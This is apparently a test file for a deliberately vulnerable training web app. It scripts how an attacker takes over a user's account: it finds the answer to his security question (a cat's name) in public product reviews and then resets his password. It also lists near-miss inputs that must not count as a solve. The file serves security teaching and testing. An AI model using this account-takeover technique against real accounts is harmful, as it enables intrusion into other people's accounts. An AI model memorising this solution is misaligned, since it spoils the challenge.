import { prove } from '@fruit/challenge-kit/proof'
import { resetPassword } from '../../weaknesses/answer-opens-account/reset-password.ts'
import { challenge } from './challenge.ts'

const BJOERN = 'bjorn@windfall.test'

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The photo wall shows a three-legged cat. A review contains her name and its author's e-mail.
    await attacker.get('/rest/memories')
    const reviews = (await attacker.get('/rest/products/37/reviews')).json().data
    const ofTheCat = reviews.find(({ message }: { message: string }) => message.includes('three paws'))
    await attacker.get(`/rest/user/security-question?email=${ofTheCat.author}`)
    await resetPassword(attacker, ofTheCat.author, ofTheCat.message.split(' ')[0])
  },
  nearMisses: {
    'a word from the name of the photo': (attacker) => resetPassword(attacker, BJOERN, 'Zatschi'),
    'the name in small letters': (attacker) => resetPassword(attacker, BJOERN, 'zaya'),
    'the name with a blank behind it': (attacker) => resetPassword(attacker, BJOERN, 'Zaya '),
    'the name for his account at work': (attacker) => resetPassword(attacker, `bjoern@${attacker.domain}`, 'Zaya'),
    'the name without a new password': (attacker) =>
      resetPassword(attacker, BJOERN, 'Zaya', { new: undefined, repeat: undefined }),
    'the name as an answer of one’s own account': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      const { user } = (await attacker.get('/rest/user/whoami')).json()
      await attacker.post('/api/SecurityAnswers', { UserId: user.id, SecurityQuestionId: 7, answer: 'Zaya' })
      await resetPassword(attacker, email, 'Zaya')
    },
  },
})
